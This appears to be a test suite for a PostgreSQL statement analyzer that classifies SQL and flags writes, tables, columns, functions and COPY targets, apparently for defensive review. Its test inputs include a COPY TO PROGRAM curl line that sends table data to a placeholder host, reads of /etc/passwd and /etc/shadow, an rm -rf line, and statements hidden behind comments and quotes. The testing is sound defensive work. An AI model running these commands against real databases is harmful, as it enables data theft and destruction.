import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import { before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import {
  createSqlAnalyzer,
  MAX_SQL_BYTES,
  type EnrichedSqlAction,
  type SqlAnalyzer,
  type SqlStatementFacts,
} from "../src/enrichment/sql-analyzer.ts";
import { INLINE_NODE_FIELDS, INLINE_TRACKED_TYPES } from "../src/enrichment/sql/inline-node-fields.ts";
import { STATEMENT_NODE_KINDS } from "../src/enrichment/sql/statement-kinds.ts";
import { oneStatement } from "./support/one-statement.ts";

let analyzer: SqlAnalyzer;

before(async () => {
  analyzer = await createSqlAnalyzer();
});

function analyze(sql: string): EnrichedSqlAction {
  return analyzer.analyze(sql);
}

/** The facts of a text that must parse into exactly one statement. */
function one(sql: string): SqlStatementFacts {
  return oneStatement(analyze, sql);
}

function rejected(sql: string): string {
  const result = analyze(sql);
  assert.equal(typeof result.parse_error, "string", `expected a parse error for ${JSON.stringify(sql)}`);
  assert.deepEqual(result.statements, []);
  assert.equal(result.type, "sql");
  return result.parse_error as string;
}

function col(table: string | null, column: string): { table: string | null; column: string } {
  return { table, column };
}

describe("statement kinds", () => {
  const cases: Record<string, string[]> = {
    select: ["SELECT 1", "TABLE users", "VALUES (1), (2)", "SELECT 1 UNION SELECT 2", "SELECT * FROM t FOR UPDATE", "DECLARE c CURSOR FOR SELECT 1"],
    insert: ["INSERT INTO t VALUES (1)"],
    update: ["UPDATE t SET a = 1"],
    delete: ["DELETE FROM t"],
    merge: ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"],
    show: ["SHOW search_path", "SHOW ALL"],
    explain: ["EXPLAIN SELECT 1"],
    transaction: [
      "BEGIN",
      "START TRANSACTION READ ONLY",
      "COMMIT",
      "ROLLBACK",
      "SAVEPOINT s1",
      "RELEASE SAVEPOINT s1",
      "ROLLBACK TO SAVEPOINT s1",
      "PREPARE TRANSACTION 'tx'",
      "COMMIT PREPARED 'tx'",
    ],
    set: ["SET search_path = x", "RESET search_path", "SET CONSTRAINTS ALL DEFERRED", "DISCARD ALL"],
    ddl: [
      "CREATE TABLE t (a int)",
      "ALTER TABLE t ADD COLUMN b int",
      "DROP TABLE t",
      "COMMENT ON TABLE t IS 'x'",
      "CREATE INDEX i ON t (a)",
      "CREATE VIEW v AS SELECT 1",
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
      "CREATE EXTENSION dblink",
      "ALTER SYSTEM SET work_mem = '1GB'",
      "CREATE TABLE t2 AS SELECT 1",
      "CREATE MATERIALIZED VIEW m AS SELECT 1",
      "REFRESH MATERIALIZED VIEW m",
      "CREATE SCHEMA s",
      "DROP OWNED BY bob",
      "ALTER TABLE t OWNER TO bob",
      "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
      "CREATE DATABASE d",
      "SELECT * INTO t3 FROM t",
    ],
    grant: [
      "GRANT SELECT ON t TO bob",
      "REVOKE ALL ON t FROM bob",
      "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
    ],
    role: [
      "CREATE ROLE r",
      "CREATE USER u WITH PASSWORD 'p'",
      "ALTER USER u WITH SUPERUSER",
      "ALTER ROLE r SET search_path = x",
      "ALTER ROLE r RENAME TO r2",
      "DROP ROLE r",
      "DROP USER u",
      "GRANT admin TO bob",
      "REVOKE admin FROM bob",
    ],
    truncate: ["TRUNCATE t"],
    copy: ["COPY t TO STDOUT"],
    do: ["DO $$BEGIN NULL; END$$"],
    call: ["CALL p(1)"],
    prepare: ["PREPARE q AS SELECT 1"],
    execute: ["EXECUTE q"],
    deallocate: ["DEALLOCATE q", "DEALLOCATE ALL"],
    maintenance: ["VACUUM t", "VACUUM (ANALYZE) t", "ANALYZE t", "CLUSTER t USING i", "REINDEX TABLE t", "CHECKPOINT"],
    listen: ["LISTEN ch", "NOTIFY ch, 'x'", "UNLISTEN *"],
    lock: ["LOCK TABLE t IN ACCESS EXCLUSIVE MODE"],
    cursor: ["FETCH 1 FROM c", "MOVE NEXT IN c", "CLOSE c", "CLOSE ALL"],
    other: ["LOAD 'plugin'"],
  };
  for (const [kind, statements] of Object.entries(cases)) {
    test(`kind ${kind}`, () => {
      for (const sql of statements) assert.equal(one(sql).kind, kind, sql);
    });
  }

  test("node is the parser's node type of the top-level statement", () => {
    assert.equal(one("DELETE FROM t").node, "DeleteStmt");
    assert.equal(one("GRANT admin TO bob").node, "GrantRoleStmt");
    assert.equal(one("SELECT * INTO t3 FROM t").node, "SelectStmt");
  });
});

describe("lexical tricks", () => {
  test("comments are not statements, and are cut from the statement text", () => {
    const result = analyze("/* lead /* nested */ still comment */ DELETE FROM t; -- trailing\nSELECT 1 -- end");
    assert.equal(result.parse_error, null);
    assert.deepEqual(
      result.statements.map((s) => s.kind),
      ["delete", "select"],
    );
    assert.equal(result.statements[0]?.text, "DELETE FROM t");
  });

  test("a comment hides what looks like a statement", () => {
    const facts = one("SELECT 1 /* ; DROP TABLE users; */ -- ; DELETE FROM users");
    assert.equal(facts.kind, "select");
    assert.deepEqual(facts.tables, []);
  });

  test("a semicolon inside a string literal does not split", () => {
    const facts = one("SELECT 'str;ing; DELETE FROM users' AS x");
    assert.equal(facts.kind, "select");
    assert.equal(facts.writes, false);
  });

  test("dollar-quoted strings hide their content, with or without a tag", () => {
    assert.equal(one("SELECT $$ ; DELETE FROM users; $$").writes, false);
    const tagged = one("SELECT $x$ $$ ; DELETE FROM users $$ $x$");
    assert.equal(tagged.kind, "select");
    assert.deepEqual(tagged.tables, []);
  });

  test("quoted identifiers: relation lower-cased, column case kept", () => {
    const facts = one('SELECT "Email" FROM "Users"');
    assert.deepEqual(facts.tables, ["users"]);
    assert.deepEqual(facts.columns, [col("users", "Email")]);
  });

  test("keywords in any case", () => {
    const facts = one("DeLeTe FrOm UsErS wHeRe Id = 1");
    assert.equal(facts.kind, "delete");
    assert.deepEqual(facts.operations, [{ kind: "delete", table: "users", schema: null, has_where: true }]);
  });

  test("unicode-escaped identifiers are decoded by the parser", () => {
    assert.deepEqual(one('SELECT 1 FROM U&"us\\0065rs"').tables, ["users"]);
  });

  test("several statements: one entry each, text cut at byte offsets", () => {
    const result = analyze("SELECT 'é'; DELETE FROM t;\n\n  UPDATE t SET a = 'ü' WHERE id = 1;");
    assert.equal(result.parse_error, null);
    assert.deepEqual(
      result.statements.map((s) => [s.kind, s.text]),
      [
        ["select", "SELECT 'é'"],
        ["delete", "DELETE FROM t"],
        ["update", "UPDATE t SET a = 'ü' WHERE id = 1"],
      ],
    );
  });

  test("quote and comment confusion cannot hide a second statement", () => {
    for (const sql of [
      "SELECT '--'; DELETE FROM users",
      "SELECT $$'$$; DELETE FROM users; -- '",
      // standard_conforming_strings is on (the server default): the backslash is literal.
      "SELECT 'it\\'; DELETE FROM users; --'",
    ]) {
      const result = analyze(sql);
      assert.deepEqual(
        result.statements.map((s) => s.kind),
        ["select", "delete"],
        sql,
      );
    }
    assert.equal(one("SELECT E'it\\'s; DELETE FROM users'").writes, false);
  });

  test("empty statements between semicolons are ignored", () => {
    assert.equal(analyze("SELECT 1;;; ;").statements.length, 1);
  });
});

describe("rejections", () => {
  test("garbage", () => {
    assert.match(rejected("DELETE users WHERE"), /syntax error/);
    rejected("hello world");
    rejected("\\! rm -rf /");
  });

  test("unterminated string, dollar quote, identifier and comment", () => {
    assert.match(rejected("SELECT 'abc"), /unterminated/);
    rejected("SELECT $x$ abc");
    rejected('SELECT "abc');
    rejected("SELECT 1 /* never closed");
  });

  test("empty, whitespace-only and comment-only text", () => {
    assert.equal(rejected(""), "empty statement");
    assert.equal(rejected("  \n\t "), "empty statement");
    assert.equal(rejected("-- nothing here"), "empty statement");
    assert.equal(rejected(";;"), "empty statement");
  });

  test("oversized input is refused before parsing", () => {
    assert.match(rejected("SELECT 1 " + " ".repeat(MAX_SQL_BYTES)), /larger than/);
  });

  test("NUL and lone surrogates (what the parser sees must be what is sent)", () => {
    rejected("SELECT 1\u0000; DROP TABLE users");
    rejected("SELECT '\uD800'");
  });

  test("never throws, even on a non-string or a pathologically deep tree", () => {
    assert.equal(typeof analyze(undefined as unknown as string).parse_error, "string");
    const deep = analyze("SELECT " + "(".repeat(20000) + "1" + ")".repeat(20000));
    assert.equal(deep.type, "sql");
    const nested = analyze("SELECT " + "f(".repeat(3000) + "1" + ")".repeat(3000));
    assert.ok(nested.parse_error !== null || nested.statements.length === 1);
  });
});

describe("operations", () => {
  test("has_where: absent, present, WHERE true, WHERE CURRENT OF", () => {
    assert.equal(one("DELETE FROM t").operations[0]?.has_where, false);
    assert.equal(one("UPDATE t SET a = 1").operations[0]?.has_where, false);
    assert.equal(one("DELETE FROM t WHERE true").operations[0]?.has_where, true);
    assert.equal(one("UPDATE t SET a = 1 WHERE CURRENT OF c").operations[0]?.has_where, true);
    assert.equal(one("SELECT * FROM t WHERE a = 1").operations[0]?.has_where, null);
  });

  test("schema kept in operations, dropped from tables", () => {
    const facts = one("DELETE FROM Public.Orders WHERE id = 7");
    assert.deepEqual(facts.operations, [{ kind: "delete", table: "orders", schema: "public", has_where: true }]);
    assert.deepEqual(facts.tables, ["orders"]);
  });

  test("data-modifying CTE under a SELECT", () => {
    const facts = one("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
    assert.equal(facts.kind, "select");
    assert.equal(facts.writes, true);
    assert.deepEqual(facts.operations, [
      { kind: "select", table: "d", schema: null, has_where: null },
      { kind: "delete", table: "users", schema: null, has_where: false },
    ]);
    assert.deepEqual(facts.tables, ["d", "users"]);
    assert.deepEqual(facts.star_tables, ["users"]);
  });

  test("data-modifying CTEs under INSERT and UPDATE", () => {
    const facts = one(
      "WITH moved AS (UPDATE accounts SET owner = 'x' RETURNING id) INSERT INTO audit SELECT id FROM moved",
    );
    assert.deepEqual(
      facts.operations.map((op) => [op.kind, op.table]),
      [
        ["insert", "audit"],
        ["update", "accounts"],
        ["select", "moved"],
      ],
    );
  });

  test("EXPLAIN ANALYZE DELETE runs the delete", () => {
    const facts = one("EXPLAIN ANALYZE DELETE FROM users");
    assert.equal(facts.kind, "explain");
    assert.equal(facts.explain_analyze, true);
    assert.equal(facts.writes, true);
    assert.deepEqual(facts.operations, [{ kind: "delete", table: "users", schema: null, has_where: false }]);
  });

  test("EXPLAIN option spellings", () => {
    assert.equal(one("EXPLAIN (ANALYZE) SELECT 1").explain_analyze, true);
    assert.equal(one("EXPLAIN (ANALYZE true, BUFFERS) SELECT 1").explain_analyze, true);
    assert.equal(one("EXPLAIN (ANALYZE on) SELECT 1").explain_analyze, true);
    assert.equal(one("EXPLAIN (ANALYZE 1) SELECT 1").explain_analyze, true);
    assert.equal(one("EXPLAIN ANALYSE SELECT 1").explain_analyze, true);
    assert.equal(one("EXPLAIN (ANALYZE false) SELECT 1").explain_analyze, false);
    assert.equal(one("EXPLAIN (ANALYZE off) SELECT 1").explain_analyze, false);
    assert.equal(one("EXPLAIN (ANALYZE 0) SELECT 1").explain_analyze, false);
    assert.equal(one("EXPLAIN (VERBOSE) DELETE FROM t").explain_analyze, false);
    assert.equal(one("EXPLAIN (ANALYZE false, ANALYZE true) SELECT 1").explain_analyze, true);
    assert.equal(one("SELECT 1").explain_analyze, false);
  });

  test("PREPARE body is analysed; EXECUTE carries only the name", () => {
    const prepared = one("PREPARE x(int) AS DELETE FROM t");
    assert.equal(prepared.kind, "prepare");
    assert.equal(prepared.writes, true);
    assert.deepEqual(prepared.operations, [{ kind: "delete", table: "t", schema: null, has_where: false }]);
    const executed = one("EXECUTE x(1)");
    assert.equal(executed.kind, "execute");
    assert.deepEqual(executed.operations, []);
  });

  test("CREATE RULE and CREATE VIEW bodies", () => {
    const rule = one("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u WHERE u.id = new.id");
    assert.equal(rule.kind, "ddl");
    assert.deepEqual(rule.operations, [{ kind: "delete", table: "u", schema: null, has_where: true }]);
    assert.deepEqual(rule.columns, [col("t", "id"), col("u", "id")]);
    const view = one("CREATE VIEW v AS SELECT ssn FROM users");
    assert.deepEqual(view.operations, [{ kind: "select", table: "users", schema: null, has_where: null }]);
    assert.deepEqual(view.tables, ["users", "v"]);
    assert.deepEqual(view.columns, [col("users", "ssn")]);
    assert.equal(view.writes, false);
  });

  test("SQL-standard function bodies are parsed, so their writes show", () => {
    const facts = one("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END");
    assert.deepEqual(facts.operations, [{ kind: "delete", table: "users", schema: null, has_where: false }]);
  });

  test("subqueries in WHERE and FROM", () => {
    const facts = one("SELECT * FROM (SELECT id FROM a) s WHERE id IN (SELECT a_id FROM b)");
    assert.deepEqual(
      facts.operations.map((op) => [op.kind, op.table]),
      [
        ["select", null],
        ["select", "a"],
        ["select", "b"],
      ],
    );
  });

  test("UNION arms each record a select, the set operation itself does not", () => {
    const facts = one("SELECT a FROM x UNION ALL SELECT b FROM y");
    assert.deepEqual(
      facts.operations.map((op) => op.table),
      ["x", "y"],
    );
  });

  test("INSERT: VALUES is not a read, INSERT … SELECT is; ON CONFLICT and RETURNING", () => {
    const values = one("INSERT INTO t (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b RETURNING *");
    assert.deepEqual(values.operations, [{ kind: "insert", table: "t", schema: null, has_where: null }]);
    assert.deepEqual(values.columns, [col("t", "a"), col("t", "b")]);
    assert.deepEqual(values.star_tables, ["t"]);
    const copied = one("INSERT INTO archive SELECT email FROM users");
    assert.deepEqual(
      copied.operations.map((op) => [op.kind, op.table]),
      [
        ["insert", "archive"],
        ["select", "users"],
      ],
    );
    // The source query cannot see the insert target, so its column is certain.
    assert.deepEqual(copied.columns, [col("users", "email")]);
  });

  test("UPDATE … FROM and DELETE … USING", () => {
    const update = one("UPDATE users u SET email = o.email FROM orders o WHERE o.uid = u.id");
    assert.deepEqual(update.tables, ["orders", "users"]);
    assert.deepEqual(update.columns, [
      col("orders", "email"),
      col("orders", "uid"),
      col("users", "email"),
      col("users", "id"),
    ]);
    const del = one("DELETE FROM users USING orders o WHERE o.uid = users.id");
    assert.deepEqual(del.operations, [{ kind: "delete", table: "users", schema: null, has_where: true }]);
    assert.deepEqual(del.columns, [col("orders", "uid"), col("users", "id")]);
  });

  test("cursor declarations record their query", () => {
    const facts = one("DECLARE c CURSOR FOR SELECT ssn FROM users");
    assert.equal(facts.kind, "select");
    assert.deepEqual(facts.columns, [col("users", "ssn")]);
  });

  test("recursive CTEs", () => {
    const facts = one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r");
    assert.deepEqual(facts.tables, ["r"]);
    assert.deepEqual(facts.columns, [col(null, "n")]);
  });

  test("MERGE", () => {
    const facts = one(
      "MERGE INTO accounts a USING staging s ON a.id = s.id WHEN MATCHED THEN UPDATE SET balance = s.balance WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
    );
    assert.equal(facts.kind, "merge");
    assert.equal(facts.writes, true);
    assert.deepEqual(facts.operations, [{ kind: "merge", table: "accounts", schema: null, has_where: null }]);
    assert.deepEqual(facts.tables, ["accounts", "staging"]);
    assert.deepEqual(facts.columns, [
      col("accounts", "balance"),
      col("accounts", "id"),
      col("staging", "balance"),
      col("staging", "id"),
    ]);
  });
});

describe("writes", () => {
  test("SELECT INTO and CREATE TABLE AS write", () => {
    const into = one("SELECT * INTO copy_of_users FROM users");
    assert.equal(into.kind, "ddl");
    assert.equal(into.writes, true);
    assert.deepEqual(into.tables, ["copy_of_users", "users"]);
    assert.equal(one("CREATE TABLE x AS SELECT * FROM users").writes, true);
    assert.equal(one("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1").writes, true);
  });

  test("COPY FROM writes, COPY TO does not", () => {
    assert.equal(one("COPY t FROM STDIN").writes, true);
    assert.equal(one("COPY t TO STDOUT").writes, false);
  });

  test("TRUNCATE and REFRESH MATERIALIZED VIEW write", () => {
    const truncate = one("TRUNCATE users, orders");
    assert.equal(truncate.writes, true);
    assert.deepEqual(truncate.tables, ["orders", "users"]);
    assert.equal(one("REFRESH MATERIALIZED VIEW m").writes, true);
  });

  test("plain reads and SELECT … FOR UPDATE do not write", () => {
    assert.equal(one("SELECT * FROM t FOR UPDATE").writes, false);
    assert.equal(one("SHOW ALL").writes, false);
  });
});

describe("tables", () => {
  test("every relation: joins, subqueries, CTE bodies, functions' subqueries", () => {
    const facts = one(
      "WITH c AS (SELECT * FROM s1.alpha) SELECT upper((SELECT name FROM beta LIMIT 1)) FROM c JOIN gamma g ON true, LATERAL (SELECT 1 FROM delta) x",
    );
    assert.deepEqual(facts.tables, ["alpha", "beta", "c", "delta", "gamma"]);
  });

  test("DROP, GRANT, LOCK and ALTER name their relations", () => {
    assert.deepEqual(one("DROP TABLE users, s.orders CASCADE").tables, ["orders", "users"]);
    assert.deepEqual(one("DROP VIEW v").tables, ["v"]);
    assert.deepEqual(one("DROP INDEX i").tables, []);
    assert.deepEqual(one("GRANT SELECT ON users, public.orders TO bob").tables, ["orders", "users"]);
    assert.deepEqual(one("LOCK users, orders").tables, ["orders", "users"]);
    assert.deepEqual(one("ALTER TABLE users DROP COLUMN ssn").tables, ["users"]);
  });

  test("foreign keys and LIKE name the referenced table", () => {
    assert.deepEqual(one("CREATE TABLE t (id int REFERENCES users (id), LIKE orders)").tables, ["orders", "t", "users"]);
  });
});

describe("columns", () => {
  test("aliases resolve to their relations", () => {
    const facts = one("SELECT u.email, o.total FROM users u JOIN orders o ON o.user_id = u.id");
    assert.deepEqual(facts.columns, [
      col("orders", "total"),
      col("orders", "user_id"),
      col("users", "email"),
      col("users", "id"),
    ]);
  });

  test("unqualified: the only relation, otherwise null", () => {
    assert.deepEqual(one("SELECT email FROM users WHERE id = 1").columns, [col("users", "email"), col("users", "id")]);
    assert.deepEqual(one("SELECT email FROM users, orders").columns, [col(null, "email")]);
  });

  test("schema-qualified column references", () => {
    assert.deepEqual(one("SELECT public.users.email FROM public.users").columns, [col("users", "email")]);
  });

  test("casts and function arguments still reference the column", () => {
    const facts = one("SELECT email::text, lower(u.name)::varchar(5), CAST(ssn AS text) FROM users u");
    assert.deepEqual(facts.columns, [col("users", "email"), col("users", "name"), col("users", "ssn")]);
  });

  test("assigned columns of UPDATE and INSERT", () => {
    assert.deepEqual(one("UPDATE users SET role = 'admin' WHERE id = 1").columns, [col("users", "id"), col("users", "role")]);
    assert.deepEqual(one("INSERT INTO users (email) VALUES ('x')").columns, [col("users", "email")]);
  });

  test("a correlated subquery may fall back to the outer relation: unknown", () => {
    // PostgreSQL resolves ssn to users.ssn when orders has no such column.
    assert.deepEqual(one("SELECT (SELECT ssn FROM orders LIMIT 1) FROM users").columns, [col(null, "ssn")]);
    // With no FROM of its own the subquery can only mean the outer relation.
    assert.deepEqual(one("SELECT (SELECT ssn) FROM users").columns, [col("users", "ssn")]);
  });

  test("columns of a CTE or subquery have no table", () => {
    const facts = one("WITH d AS (SELECT email FROM users) SELECT d.email, email FROM d");
    assert.deepEqual(facts.columns, [col(null, "email"), col("users", "email")]);
    assert.deepEqual(one("SELECT s.x FROM (SELECT 1 AS x) s").columns, [col(null, "x")]);
  });

  test("(u).field reads one column of the whole row", () => {
    const facts = one("SELECT (u).email FROM users u");
    assert.ok(facts.columns.some((c) => c.table === "users" && c.column === "email"));
    assert.deepEqual(facts.star_tables, []);
  });

  test("q.col where q is no relation is a composite column of the visible one", () => {
    assert.ok(one("SELECT profile.ssn FROM users").columns.some((c) => c.table === "users" && c.column === "profile"));
  });

  test("COPY column lists", () => {
    assert.deepEqual(one("COPY users (id, email) TO STDOUT").columns, [col("users", "email"), col("users", "id")]);
  });
});

describe("star_tables", () => {
  test("SELECT * covers every relation of the FROM list", () => {
    assert.deepEqual(one("SELECT * FROM users u JOIN orders o ON o.uid = u.id").star_tables, ["orders", "users"]);
    assert.deepEqual(one("TABLE users").star_tables, ["users"]);
  });

  test("u.* resolves the alias", () => {
    assert.deepEqual(one("SELECT u.*, o.id FROM users u JOIN orders o ON true").star_tables, ["users"]);
  });

  test("whole-row references: row_to_json(u), SELECT u, to_jsonb(users)", () => {
    assert.deepEqual(one("SELECT row_to_json(u) FROM users u").star_tables, ["users"]);
    assert.deepEqual(one("SELECT u FROM users u").star_tables, ["users"]);
    assert.deepEqual(one("SELECT to_jsonb(users) FROM users").star_tables, ["users"]);
    assert.deepEqual(one("SELECT id FROM users u WHERE u IS NOT NULL").star_tables, ["users"]);
  });

  test("count(*) is not a star", () => {
    assert.deepEqual(one("SELECT count(*) FROM users").star_tables, []);
  });

  test("* over a subquery, CTE or join alias covers the relations inside", () => {
    assert.deepEqual(one("SELECT * FROM (SELECT id FROM users) s").star_tables, ["users"]);
    assert.deepEqual(one("WITH c AS (SELECT id FROM users) SELECT * FROM c").star_tables, ["users"]);
    assert.deepEqual(one("SELECT j.* FROM (a JOIN b USING (id)) AS j").star_tables, ["a", "b"]);
    assert.deepEqual(one("SELECT row_to_json(s) FROM (SELECT ssn FROM users) s").star_tables, ["users"]);
  });

  test("a CTE named like a later table cannot hide the real table", () => {
    const facts = one("WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a");
    assert.deepEqual(facts.star_tables, ["users"]);
  });

  test("CTEs reading CTEs are followed", () => {
    const facts = one("WITH a AS (SELECT ssn FROM users), b AS (SELECT * FROM a) SELECT * FROM b");
    assert.ok(facts.star_tables.includes("users"));
  });

  test("RETURNING * and RETURNING old.*", () => {
    assert.deepEqual(one("DELETE FROM users WHERE id = 1 RETURNING *").star_tables, ["users"]);
    assert.deepEqual(one("UPDATE users SET a = 1 WHERE id = 1 RETURNING old.*").star_tables, ["users"]);
  });

  test("COPY of a whole table", () => {
    assert.deepEqual(one("COPY users TO STDOUT").star_tables, ["users"]);
    assert.deepEqual(one("COPY users (id) TO STDOUT").star_tables, []);
    assert.deepEqual(one("COPY (SELECT * FROM users) TO STDOUT").star_tables, ["users"]);
  });
});

describe("functions", () => {
  test("nested in arguments", () => {
    assert.deepEqual(one("SELECT upper(pg_read_file('/etc/passwd'))").functions, ["pg_read_file", "upper"]);
  });

  test("schema-qualified and quoted names lose schema and case", () => {
    assert.deepEqual(one('SELECT pg_catalog.pg_read_file(\'x\'), "PG_LS_DIR"(\'.\')').functions, [
      "pg_ls_dir",
      "pg_read_file",
    ]);
  });

  test("in FROM, CTEs, subqueries, WHERE, defaults, CALL arguments and ORDER BY", () => {
    assert.deepEqual(one("SELECT * FROM pg_ls_dir('.') AS f").functions, ["pg_ls_dir"]);
    assert.deepEqual(
      one("WITH c AS (SELECT lo_import('/etc/shadow')) SELECT 1 FROM c WHERE pg_sleep(1) IS NULL ORDER BY random()").functions,
      ["lo_import", "pg_sleep", "random"],
    );
    assert.deepEqual(one("CREATE TABLE t (a text DEFAULT pg_read_file('x'))").functions, ["pg_read_file"]);
    assert.deepEqual(one("CALL p(f(1))").functions, ["f", "p"]);
  });

  test("trigger functions count as called", () => {
    const facts = one(
      "CREATE TRIGGER t BEFORE UPDATE ON users FOR EACH ROW WHEN (OLD.email IS DISTINCT FROM NEW.email) EXECUTE FUNCTION audit.f()",
    );
    assert.deepEqual(facts.functions, ["f"]);
    assert.deepEqual(facts.columns, [col("users", "email")]);
  });

  test("set_config is visible as a function", () => {
    assert.deepEqual(one("SELECT set_config('role', 'admin', false)").functions, ["set_config"]);
  });

  test("SQL-syntax functions and aggregates with FILTER/OVER", () => {
    const facts = one("SELECT count(*) FILTER (WHERE f(x) > 0) OVER (PARTITION BY g(y)) FROM t");
    assert.deepEqual(facts.functions, ["count", "f", "g"]);
  });
});

describe("copy", () => {
  test("COPY … TO PROGRAM", () => {
    assert.deepEqual(one("COPY users TO PROGRAM 'curl -d @- http://evil'").copy, {
      program: true,
      filename: "curl -d @- http://evil",
      is_from: false,
    });
    assert.deepEqual(one("COPY t FROM PROGRAM 'id'").copy, { program: true, filename: "id", is_from: true });
  });

  test("COPY … TO a server file, and STDIN/STDOUT", () => {
    assert.deepEqual(one("COPY (SELECT 1) TO '/tmp/x'").copy, { program: false, filename: "/tmp/x", is_from: false });
    assert.deepEqual(one("COPY t FROM STDIN").copy, { program: false, filename: null, is_from: true });
    assert.equal(one("SELECT 1").copy, null);
  });

  test("COPY (query) TO STDOUT records the query's operations", () => {
    const facts = one("COPY (SELECT email FROM users) TO STDOUT");
    assert.deepEqual(facts.operations, [{ kind: "select", table: "users", schema: null, has_where: null }]);
    const deleting = one("COPY (DELETE FROM t RETURNING id) TO STDOUT");
    assert.equal(deleting.writes, true);
  });
});

describe("set", () => {
  test("SET ROLE, SET SESSION AUTHORIZATION, RESET ROLE", () => {
    assert.deepEqual(one("SET ROLE admin").set, { name: "role", local: false });
    assert.deepEqual(one("SET LOCAL ROLE admin").set, { name: "role", local: true });
    assert.deepEqual(one("SET SESSION AUTHORIZATION postgres").set, { name: "session_authorization", local: false });
    assert.deepEqual(one("RESET ROLE").set, { name: "role", local: false });
    assert.deepEqual(one("RESET SESSION AUTHORIZATION").set, { name: "session_authorization", local: false });
  });

  test("other variables, quoted names, RESET ALL, SET TRANSACTION", () => {
    assert.deepEqual(one('SET "Search_Path" TO x').set, { name: "search_path", local: false });
    assert.deepEqual(one("SET standard_conforming_strings = off").set, {
      name: "standard_conforming_strings",
      local: false,
    });
    assert.deepEqual(one("RESET ALL").set, { name: "all", local: false });
    assert.deepEqual(one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").set, { name: "transaction", local: false });
    assert.equal(one("SELECT 1").set, null);
  });
});

describe("DO", () => {
  test("the body is a string: kind do, nothing inside is reported", () => {
    const facts = one("DO $$ BEGIN DELETE FROM users; END $$ LANGUAGE plpgsql");
    assert.equal(facts.kind, "do");
    assert.deepEqual(facts.operations, []);
    assert.deepEqual(facts.tables, []);
  });
});

describe("parser coverage", () => {
  function pgsqlTypes(): string {
    // Resolved from libpg-query's own location: that is the types package it was built with.
    const libpgQuery = fileURLToPath(import.meta.resolve("libpg-query"));
    const typesEntry = createRequire(libpgQuery).resolve("@pgsql/types");
    return readFileSync(join(dirname(typesEntry), "types.d.ts"), "utf8");
  }

  test("every statement node type is classified", () => {
    const statements = [...pgsqlTypes().matchAll(/export interface (\w+Stmt) \{/g)]
      .map((match) => match[1] as string)
      .filter((name) => name !== "RawStmt" && name !== "SetOperationStmt");
    assert.ok(statements.length > 100);
    assert.deepEqual(
      statements.filter((name) => !STATEMENT_NODE_KINDS.has(name)),
      [],
    );
  });

  test("inline node fields cover every bare field of a tracked type", () => {
    const source = pgsqlTypes();
    const tracked = new Set(INLINE_TRACKED_TYPES);
    const missing: string[] = [];
    for (const match of source.matchAll(/export interface (\w+) \{([\s\S]*?)\n\}/g)) {
      const [, parent, body] = match;
      if (parent === undefined || body === undefined) continue;
      if (["ParseResult", "ScanResult", "SummaryResult", "Query", "RangeTblEntry"].includes(parent)) continue;
      for (const fieldMatch of body.matchAll(/^\s+(\w+)\??: (\w+)(\[\])?;/gm)) {
        const [, fieldName, type] = fieldMatch;
        if (fieldName === undefined || type === undefined || !tracked.has(type)) continue;
        if (INLINE_NODE_FIELDS[parent]?.[fieldName] !== type) missing.push(`${parent}.${fieldName}: ${type}`);
      }
    }
    assert.deepEqual(missing, []);
  });
});
